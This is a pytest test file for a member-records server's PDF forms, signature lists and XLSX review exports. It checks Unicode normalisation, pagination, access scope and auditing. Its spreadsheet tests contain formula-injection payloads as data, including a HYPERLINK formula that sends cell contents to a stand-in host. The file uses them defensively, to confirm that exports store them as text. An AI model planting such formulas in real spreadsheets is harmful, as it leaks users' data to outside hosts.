"""The printed documents (CONTRACT §10): the member form and the per-cell signature list, read back with pypdf.

Names are stored here exactly as some keyboards send them (NFD) and must come out of the PDF as NFC text;
pages are A4; a cell's list longer than a page repeats its header; each cell starts on a new page; scope,
roles and the audit trail as for every personal-data endpoint. Also the review XLSX's cell column and
title block, and the rule that no spreadsheet cell is ever a formula.
"""
from __future__ import annotations

import hashlib
import io
import unicodedata
import uuid
from datetime import datetime, timedelta, timezone

import pytest
from openpyxl import Workbook, load_workbook
from PIL import Image, ImageDraw
from pypdf import PdfReader
from sqlalchemy import select

from server.extensions import db
from server.models import AuditEvent, Submission
from server.spreadsheets import text_cell
from server.units import add_unit
from tests.conftest import add_member
from tests.sync_support import stored_photo

VN = timezone(timedelta(hours=7))
NFD = lambda text: unicodedata.normalize("NFD", text)  # noqa: E731
GIVEN = ("An", "Bình", "Cường", "Dũng", "Đức", "Giang", "Hạnh", "Hoà", "Khánh", "Lộc", "Minh", "Nguyệt",
         "Oanh", "Phượng", "Quỳnh", "Sơn", "Thuỷ", "Tuấn", "Uyên", "Việt", "Xuân", "Yến", "Ằng")
FAMILY = ("Nguyễn", "Trần", "Lê", "Phạm", "Hoàng", "Huỳnh", "Vũ", "Đỗ")
LONG_LIST = 40  # rows of 8 mm: a cell of 40 runs onto a second page


def portrait_jpeg() -> bytes:
    img = Image.new("RGB", (450, 600), (60, 100, 170))
    ImageDraw.Draw(img).ellipse((120, 120, 330, 400), fill=(224, 172, 140))
    out = io.BytesIO()
    img.save(out, "JPEG", quality=90)
    return out.getvalue()


def add_submission(member, officer_user, photo, fields=None, status="verified", unit=None,
                   captured_at=datetime(2025, 8, 8, 7, 3, tzinfo=timezone.utc)) -> Submission:
    """An accepted record as ingest stores it (inserted directly: these tests are about printing it)."""
    body = {"full_name": member.full_name if member else "", "date_of_birth": member.date_of_birth if member else "",
            "gender": member.gender if member else "male", "citizen_id": member.citizen_id if member else ""}
    body.update(fields or {})
    sub = Submission(client_id=str(uuid.uuid4()), content_hash="0" * 64, device_id="tablet-docs",
                     user_id=officer_user.id, unit_id=(unit or member.unit).id, member_id=member.id if member else None,
                     captured_at=captured_at, location_kind="station", photo_sha256=photo, fields=body,
                     status=status, review_reasons=[] if status == "verified" else ["registry_mismatch"])
    db.session.add(sub)
    if member is not None:
        member.status = status
    db.session.flush()
    return sub


def pdf_pages(response) -> list[str]:
    assert response.status_code == 200, response.get_json(silent=True)
    assert response.mimetype == "application/pdf" and response.headers["Cache-Control"] == "no-store"
    reader = PdfReader(io.BytesIO(response.data))
    for page in reader.pages:  # A4 portrait: 595 × 842 pt
        assert abs(float(page.mediabox.width) - 595.28) < 1 and abs(float(page.mediabox.height) - 841.89) < 1
    return [page.extract_text() for page in reader.pages]


def audit_events(action):
    db.session.rollback()
    return db.session.scalars(select(AuditEvent).where(AuditEvent.action == action).order_by(AuditEvent.id)).all()


# ---- the member form ------------------------------------------------------------------------------------

FORM_FIELDS = {"full_name": NFD("Nguyễn Thị Thuỷ Ngọc"), "date_of_birth": "1962-05-01", "gender": "female",
               "citizen_id": "001162012345", "old_card_number": "01-123456", "ethnicity": "Kinh",
               "religion": "Không", "hometown": NFD("Xã Ỷ La, Tuyên Quang"),
               "permanent_address": NFD("Số 7 ngõ Huế, phường Hoàn Kiếm, Hà Nội"),
               "party_join_date": "1985-03-01", "party_official_date": "1986-03-01", "phone": "0912345678"}


@pytest.fixture
def form(app, tree, login_as):
    """A record for a C1 member with a real portrait uploaded through the API, and the users who may print it."""
    officer = login_as("officer", "G1")
    photo = portrait_jpeg()
    sha = hashlib.sha256(photo).hexdigest()
    assert officer.put(f"/api/v1/photos/{sha}", data=photo, content_type="image/jpeg").status_code == 201
    member = add_member(tree["C1"], "M-FORM", full_name=FORM_FIELDS["full_name"], dob="1962-05-01",
                        gender="female", citizen_id="001162012345")
    sub = add_submission(member, officer.user, sha, FORM_FIELDS, status="needs_review")
    db.session.commit()
    return {"officer": officer, "sub": sub.id, "unit": tree["C1"].id}


def test_the_member_form_prints_every_field_in_nfc_with_the_portrait(form):
    response = form["officer"].get(f"/api/v1/submissions/{form['sub']}/form.pdf")

    (text,) = pdf_pages(response)
    for value in ("Nguyễn Thị Thuỷ Ngọc", "01/05/1962", "Nữ", "001162012345", "01-123456", "Kinh", "Không",
                  "Xã Ỷ La, Tuyên Quang", "Số 7 ngõ Huế, phường Hoàn Kiếm, Hà Nội", "01/03/1985", "01/03/1986",
                  "0912345678", "Chi bộ Khu phố 1 (C1)", "ĐẢNG BỘ CƠ SỞ MỘT", "08/08/2025 14:03",
                  "Tại trụ sở công an", "Cần xem xét"):
        assert value in text, value
    from server.documents.labels import FORM_FIELDS  # the field catalogue's labels, every one on the form
    for label in (*(text for _, text in FORM_FIELDS),
                  "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", "Độc lập - Tự do - Hạnh phúc", "PHIẾU ĐẢNG VIÊN",
                  "CÁN BỘ THU NHẬN", "ĐẢNG VIÊN", "(Ký, ghi rõ họ tên)"):
        assert label in text, label
    assert NFD("Nguyễn") not in text
    reader = PdfReader(io.BytesIO(response.data))
    assert len(reader.pages[0].images) == 1  # the portrait, embedded
    (event,) = audit_events("document.member_form")
    assert (event.user_id, event.object_type, event.object_id, event.unit_id) == (
        form["officer"].user.id, "submission", str(form["sub"]), form["unit"])
    assert event.detail == {}  # ids only: no name, no citizen ID


def test_the_member_form_follows_scope_and_role(form, login_as):
    outsider = login_as("officer", "C2")
    hit = outsider.get(f"/api/v1/submissions/{form['sub']}/form.pdf")
    miss = outsider.get("/api/v1/submissions/987654/form.pdf")
    assert (hit.status_code, hit.get_json()) == (miss.status_code, miss.get_json())
    assert hit.status_code == 404
    viewer = login_as("viewer", "P")
    assert viewer.get(f"/api/v1/submissions/{form['sub']}/form.pdf").get_json()["error"]["code"] == "forbidden"
    assert audit_events("document.member_form") == []
    admin = login_as("unit_admin", "A1")  # above the cell: prints from the office
    assert pdf_pages(admin.get(f"/api/v1/submissions/{form['sub']}/form.pdf"))


def test_a_form_whose_photo_file_is_gone_still_prints_with_an_empty_frame(app, tree, login_as):
    officer = login_as("officer", "C1")
    member = add_member(tree["C1"], "M-NOPHOTO", full_name="Lê Văn Ẩn")
    sub = add_submission(member, officer.user, stored_photo())  # a photo row with no file behind it
    db.session.commit()
    response = officer.get(f"/api/v1/submissions/{sub.id}/form.pdf")
    (text,) = pdf_pages(response)
    assert "Lê Văn Ẩn" in text and "Ảnh 3×4" in text
    assert len(PdfReader(io.BytesIO(response.data)).pages[0].images) == 0


# ---- the signature list -------------------------------------------------------------------------------

@pytest.fixture
def ward(app, tree, login_as):
    """G1 with two cells: C1 holds LONG_LIST collected members (some names in NFD) and two not collected,
    C1B three collected members. Returns the names per cell, in the order the list prints them."""
    c1b = add_unit("C1B", "Chi bộ Khu phố 1B", "cell", tree["G1"])
    officer = login_as("officer", "G1")
    photo = stored_photo()
    names = {"C1": [], "C1B": []}
    for cell, count in (("C1", LONG_LIST), ("C1B", 3)):
        unit = tree["C1"] if cell == "C1" else c1b
        for i in range(count):
            name = f"{FAMILY[i % len(FAMILY)]} Văn {GIVEN[i % len(GIVEN)]} {cell}-{i:02d}"
            member = add_member(unit, f"{cell}-{i:03d}", full_name=NFD(name) if i % 3 == 0 else name,
                                citizen_id=f"0010600{i:05d}")
            add_submission(member, officer.user, photo, status="verified" if i % 2 else "needs_review")
            names[cell].append(name)
    for i in range(2):
        add_member(tree["C1"], f"C1-PENDING-{i}", full_name=f"Chưa Thu Nhận Số {i}")
    add_member(tree["C2"], "C2-OTHER", full_name="Người Phường Khác")
    db.session.commit()
    return names


def test_the_signature_list_has_one_section_per_cell_with_every_collected_name(ward, login_as):
    admin = login_as("unit_admin", "G1")

    pages = pdf_pages(admin.get("/api/v1/exports/collected.pdf?unit=G1"))

    text = "\n".join(pages)
    for name in ward["C1"] + ward["C1B"]:
        assert name in text, name  # NFC, whatever form it was stored in
    assert "Chưa Thu Nhận" not in text and "Người Phường Khác" not in text
    c1_pages = [i for i, page in enumerate(pages) if any(name in page for name in ward["C1"])]
    c1b_pages = [i for i, page in enumerate(pages) if any(name in page for name in ward["C1B"])]
    # C1's list runs over two pages; C1B starts on a page of its own, after C1's last
    assert len(c1_pages) >= 2 and c1_pages == list(range(len(c1_pages)))
    assert c1b_pages == [len(c1_pages)] and len(pages) == len(c1_pages) + 1
    assert "Chi bộ Khu phố 1B" in pages[-1] and "Chi bộ Khu phố 1 —" not in pages[-1]
    for page in pages:  # the table header repeats on every page of a list, the signatures never stand alone
        assert "Họ và tên" in page and "Số định danh" in page and "Ký xác nhận" in page
    # each cell's pages are numbered on their own: the pages its secretary holds
    assert f"Trang 2/{len(c1_pages)}" in pages[1] and "Trang 1/1" in pages[-1]
    assert "Đã khớp" in text and "Cần xem xét" in text
    assert "08/08/2025" in text
    (event,) = audit_events("export.collected_pdf")
    assert event.detail == {"cells": 2, "rows": LONG_LIST + 3} and event.unit_id == admin.user.unit_id


def test_a_cells_list_is_one_section(ward, login_as):
    pages = pdf_pages(login_as("unit_admin", "A1").get("/api/v1/exports/collected.pdf?unit=C1B"))
    assert len(pages) == 1 and all(name in pages[0] for name in ward["C1B"])
    assert not any(name in pages[0] for name in ward["C1"])


def test_the_signature_list_is_for_unit_admins_in_scope(ward, login_as):
    for role in ("viewer", "officer", "team_lead"):
        response = login_as(role, "G1").get("/api/v1/exports/collected.pdf?unit=G1")
        assert response.status_code == 403 and response.get_json()["error"]["code"] == "forbidden", role
    outsider = login_as("unit_admin", "A2")
    hit, miss = (outsider.get(f"/api/v1/exports/collected.pdf?unit={code}") for code in ("G1", "NOPE"))
    assert hit.status_code == 404 and (hit.status_code, hit.get_json()) == (miss.status_code, miss.get_json())
    too_big = login_as("unit_admin", "P").get("/api/v1/exports/collected.pdf?unit=A1")
    assert too_big.status_code == 422 and too_big.get_json()["error"]["code"] == "cell_or_grassroots_required"
    assert audit_events("export.collected_pdf") == []


# ---- spreadsheets ----------------------------------------------------------------------------------------

@pytest.mark.parametrize("value", ["=HYPERLINK(\"http://x.test/?\"&A1,\"bấm\")", "+84 912", "-1+2", "@SUM(A1)",
                                   "\t=1+1", "\r=1+1"])
def test_text_cells_are_never_formulas(value):
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("s")
    ws.append([text_cell(ws, value), text_cell(ws, 42)])
    out = io.BytesIO()
    wb.save(out)
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    cell = sheet["A1"]
    # (XML reads a stored carriage return back as a line feed; what matters is that it stays text)
    assert (cell.value, cell.data_type, cell.quotePrefix) == (value.replace("\r", "\n"), "s", True)
    assert (sheet["B1"].value, sheet["B1"].data_type) == (42, "n")


def test_the_review_export_splits_a_ward_by_cell_under_a_title_block(app, tree, login_as):
    """Two cells of G1 with differing records: the sheet says what it is (title, unit, date), lists the rows
    cell by cell with the cell's name in the first column, and a typed value that looks like a formula
    stays text."""
    from server.review.exports import HEADERS, TITLE, TITLE_ROWS
    from server.reconcile import run_reconciliation
    from tests.sync_support import add_registry

    c1b = add_unit("C1B", "Chi bộ Khu phố 1B", "cell", tree["G1"])
    for i, (unit, code, name) in enumerate(((c1b, "B-01", "Lê Văn Bê"), (tree["C1"], "A-02", "Trần Văn A"),
                                            (tree["C1"], "A-01", "Phạm Văn A"))):
        cid = f"00106000{i:04d}"
        add_member(unit, code, full_name=name, citizen_id=cid, hometown="=HYPERLINK(\"http://x.test\")")
        add_registry(cid, name, hometown="Hà Nội")  # the hometowns differ: every member is on the list
    db.session.commit()
    run_reconciliation()
    response = login_as("unit_admin", "G1").get("/api/v1/review/export.xlsx?unit=G1")

    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0] == TITLE and rows[1][0] == "Đơn vị: Đảng bộ cơ sở Một (G1)"
    assert rows[2][0] == f"Ngày lập: {datetime.now(timezone.utc).astimezone(VN):%d/%m/%Y}"
    assert rows[TITLE_ROWS][:2] == ("Chi bộ", "Mã đảng viên") and len(rows[TITLE_ROWS]) == len(HEADERS)
    body = rows[TITLE_ROWS + 1:]
    assert [(r[0], r[1]) for r in body] == [("Chi bộ Khu phố 1", "A-01"), ("Chi bộ Khu phố 1", "A-02"),
                                            ("Chi bộ Khu phố 1B", "B-01")]
    hometown = sheet.cell(row=TITLE_ROWS + 2, column=HEADERS.index("Quê quán") + 1)
    assert (hometown.value, hometown.data_type) == ("=HYPERLINK(\"http://x.test\")", "s")
